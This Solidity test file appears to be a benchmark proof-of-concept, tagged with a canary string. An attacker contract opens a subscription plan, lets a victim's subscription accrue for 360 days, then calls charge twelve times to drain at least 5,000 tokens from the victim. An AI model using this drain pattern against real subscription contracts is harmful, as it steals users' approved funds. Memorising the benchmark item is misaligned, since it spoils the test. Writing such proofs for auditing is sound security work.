// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-4b6db297-691d-4f17-b09b-6ddcadfa1803
import "../Base.sol";

contract Attacker {
    function plan(ISubscriptions subscriptions, address token) external returns (uint256) {
        return subscriptions.makePlan(token, 500e6, 30 days);
    }

    function run(ISubscriptions subscriptions, address account, uint256 number) external {
        for (uint256 i = 0; i < 12; i++) {
            try subscriptions.charge(account, number) {} catch {}
        }
    }
}

interface ISubscriptions {
    function makePlan(address token, uint256 price, uint48 period) external returns (uint256);
    function charge(address account, uint256 plan) external;
}

contract Proof is Base {
    Attacker private other;
    uint256 private number;

    function start() internal override {
        other = new Attacker();
        number = other.plan(ISubscriptions(address(subscriptions)), address(usd));
        byAna(one(call(address(subscriptions), abi.encodeCall(subscriptions.subscribe, (number, 500e6)))));
        vm.warp(block.timestamp + 360 days);
    }

    function exploit() public {
        other.run(ISubscriptions(address(subscriptions)), ana, number);
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(other)) >= 5_000e6, "no gain");
    }

    function target() public view override returns (address) {
        return address(subscriptions);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
